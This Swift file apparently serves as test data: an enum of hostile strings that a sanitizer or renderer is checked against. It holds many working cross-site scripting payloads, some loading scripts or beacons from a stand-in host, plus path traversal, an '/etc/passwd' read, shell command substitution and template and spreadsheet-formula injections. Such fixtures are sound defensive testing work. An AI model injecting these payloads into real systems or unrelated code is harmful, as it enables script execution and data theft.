/// Texts that would run, load or hide something if a page let them: of the kinds that the cheat sheets of OWASP and
/// PortSwigger list, each of which sets `hallux_pwned` or calls a dialog when it works.
enum HostileTexts {
  static let all =
    tags + handlers + breaks + addresses + styles + mutations + characters + templates

  /// Elements that run or load by themselves.
  static let tags = [
    "<script>hallux_pwned=1</script>",
    "<ScRiPt>hallux_pwned=1</sCrIpT >",
    "<script src=data:text/javascript,hallux_pwned=1></script>",
    "<script src=//x.example/x.js></script>",
    "<script\u{c}x>hallux_pwned=1</script>",
    "<script/x>hallux_pwned=1//",
    "<scr<script>ipt>hallux_pwned=1</scr</script>ipt>",
    "<svg><script>hallux_pwned=1</script></svg>",
    "<svg><script href=data:,hallux_pwned=1 />",
    "<svg><script>hallux_pwned&#61;1</script>",
    "<iframe srcdoc='<script>parent.hallux_pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.hallux_pwned=1>",
    "<object data=javascript:hallux_pwned=1></object>",
    "<object data='data:text/html,<script>hallux_pwned=1</script>'>",
    "<embed src=javascript:hallux_pwned=1>",
    "<embed src=//x.example/x.swf allowscriptaccess=always>",
    "<meta http-equiv=refresh content='0;url=javascript:hallux_pwned=1'>",
    "<meta http-equiv=refresh content='0;url=//x.example/'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<link rel=prefetch href=//x.example/x>",
    "<img src=//x.example/beacon.png>",
    "<video poster=//x.example/p.png><source src=//x.example/v.mp4></video>",
    "<form action=//x.example/><input name=key autofocus><button>Send</button></form>",
    "<portal src=//x.example/>",
    "<frameset onload=hallux_pwned=1><frame src=//x.example/></frameset>",
    "<applet code=x></applet><noframes>", "<plaintext>", "<xmp>", "<listing>",
  ]

  /// Elements with handlers that need nobody, or almost nobody, to fire.
  static let handlers = [
    "<img src=x onerror=hallux_pwned=1>",
    "<img src=x:x onerror=alert(1)//",
    "<image src=x onerror=hallux_pwned=1>",
    "<svg onload=hallux_pwned=1>",
    "<svg/onload=hallux_pwned=1//",
    "<svg><animate onbegin=hallux_pwned=1 attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:hallux_pwned=1 /><a href=x><text y=20>x</text></a>",
    "<svg><set attributeName=onmouseover to=hallux_pwned=1>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'>",
    "<svg><foreignObject><body onload=hallux_pwned=1></foreignObject></svg>",
    "<body onload=hallux_pwned=1>",
    "<body onpageshow=hallux_pwned=1>",
    "<input autofocus onfocus=hallux_pwned=1>",
    "<details open ontoggle=hallux_pwned=1><summary>x</summary></details>",
    "<video src=x onerror=hallux_pwned=1></video>",
    "<audio src onloadstart=hallux_pwned=1>",
    "<marquee onstart=hallux_pwned=1>x</marquee>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=hallux_pwned=1>",
    "<p tabindex=1 onfocus=hallux_pwned=1 id=main>",
    "<p onpointerover=hallux_pwned=1 onmouseenter=hallux_pwned=1>x",
    "<button popovertarget=x>x</button><input type=hidden id=x popover onbeforetoggle=hallux_pwned=1>",
  ]

  /// Ends of attributes, elements and comments.
  static let breaks = [
    "\" onmouseover=hallux_pwned=1 x=\"", "' onfocus=hallux_pwned=1 autofocus x='",
    "\"><script>hallux_pwned=1</script>", "'><img src=x onerror=hallux_pwned=1>",
    "\"\u{301} onmouseover=hallux_pwned=1 x=\"\u{301}", "<\u{338}script>hallux_pwned=1</script>",
    "\"\u{20E3}><svg onload=hallux_pwned=1>", ">\u{338}<\u{338}img src=x onerror=hallux_pwned=1>",
    "&\u{301}lt;script>", "`onerror=hallux_pwned=1`", "</title><script>hallux_pwned=1</script>",
    "</style><script>hallux_pwned=1</script>", "</script><script>hallux_pwned=1</script>",
    "</textarea><img src=x onerror=hallux_pwned=1>", "</table></main></body></html><p id=late>",
    "<!--", "--><script>hallux_pwned=1</script><!--", "<!--<script>",
    "<!--><img src=x onerror=hallux_pwned=1>-->",
    "--!><img src=x onerror=hallux_pwned=1>", "<![CDATA[<img src=x onerror=hallux_pwned=1>]]>",
    "]]><script>hallux_pwned=1</script>", "<?xml-stylesheet href=javascript:hallux_pwned=1?>",
    "</", "<", "<a", "<a href=\"", "</p/x=\"", "<!DOCTYPE html [<!ENTITY x \"y\">]>&x;",
  ]

  /// Addresses that are programs.
  static let addresses = [
    "javascript:hallux_pwned=1", "JaVaScRiPt:hallux_pwned=1", "java\tscript:hallux_pwned=1",
    " javascript:hallux_pwned=1", "\u{1}javascript:hallux_pwned=1",
    "javascript://x%0ahallux_pwned=1",
    "vbscript:hallux_pwned=1", "data:text/html,<script>hallux_pwned=1</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "//x.example/x.png",
    "file:///etc/passwd",
    "../../../etc/passwd", "?x=1#main", "blob:x", "<a href=javascript:hallux_pwned=1>x</a>",
    "<a href=\"jav&#x09;ascript:hallux_pwned=1\">x</a>",
    "<a href=//x.example/ ping=//x.example/>x</a>",
    "<a target=_blank href=//x.example/ rel=opener>x</a>",
    "<math><maction actiontype=statusline xlink:href=javascript:hallux_pwned=1>x</maction></math>",
  ]

  /// Styles that load or cover.
  static let styles = [
    "<style>@import '//x.example/x.css';</style>",
    "<style>*{background:url(//x.example/x)}</style>",
    "<p style='position:fixed;inset:0;background:url(//x.example/x)'>x</p>",
    "x;background:url(javascript:hallux_pwned=1)", "expression(hallux_pwned=1)",
    "<p style=width:expression(hallux_pwned=1)>", "url(//x.example/x)", "}*{display:none}",
    "<p style=behavior:url(#default#time2)>", "</svg><style>main{display:none}</style>",
  ]

  /// Markup that becomes other markup when it is read twice.
  static let mutations = [
    "<noscript><p title=\"</noscript><img src=x onerror=hallux_pwned=1>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=hallux_pwned=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hallux_pwned=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hallux_pwned=1>",
    "<template><script>hallux_pwned=1</script></template>",
    "<template shadowrootmode=open><slot></template>",
    "<select><template><img src=x onerror=hallux_pwned=1>",
    "<p id=x name=halluxCalls><a id=document name=body>",
    "<img name=getElementById><form id=location>", "&lt;script&gt;hallux_pwned=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hallux_pwned=1&amp;gt;", "&#60;svg onload=hallux_pwned=1&#62;",
    "&LT;img src=x&GT;",
    "%3Cscript%3Ehallux_pwned=1%3C/script%3E", "\\u003cscript\\u003ehallux_pwned=1",
    "\\\"};hallux_pwned=1;//", "';hallux_pwned=1;'", "*/hallux_pwned=1/*",
  ]

  /// Characters that browsers or editors read as something else.
  static let characters = [
    "\u{2028}hallux_pwned=1\u{2029}", "\u{0}<script>hallux_pwned=1</script>",
    "<\u{0}script>hallux_pwned=1</script>",
    "\u{FEFF}<script>hallux_pwned=1</script>",
    "\u{FF1C}script\u{FF1E}hallux_pwned=1\u{FF1C}/script\u{FF1E}",
    "+ADw-script+AD4-hallux_pwned=1+ADw-/script+AD4-",
    "\u{BC}script\u{BE}hallux_pwned=1\u{BC}/script\u{BE}",
    "\u{202E}tpircs<\u{202C}", "\u{2066}<img src=x onerror=hallux_pwned=1>\u{2069}",
    "\u{1B}[31m\u{9B}31m",
    "\r\n\r\n<script>hallux_pwned=1</script>", "\u{B}\u{C}\u{85}\u{A0}\u{200B}\u{FFFE}\u{FFFF}",
    "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\"\u{FE0F}>",
    "Z\u{351}\u{36B}\u{343}\u{36A}\u{302}\u{36B}\u{33D}",
    "\u{E003C}\u{E0073}\u{E007F}", "'\u{301}\"\u{301}<\u{301}>\u{301}&\u{301}",
  ]

  /// What template engines and later readers would fill in.
  static let templates = [
    "{{{name}}}{{>page}}", "{{#main}}x{{/main}}", "{{=<% %>=}}<% x %>", "${hallux_pwned=1}",
    "`${alert(1)}`",
    "<%= hallux_pwned=1 %>", "#{hallux_pwned=1}", "{{constructor.constructor('hallux_pwned=1')()}}",
    "[x](javascript:hallux_pwned=1)", "![x](//x.example/x.png)", "=HYPERLINK(\"//x.example/\")",
    "$(touch x)", "%s%n%x",
  ]
}
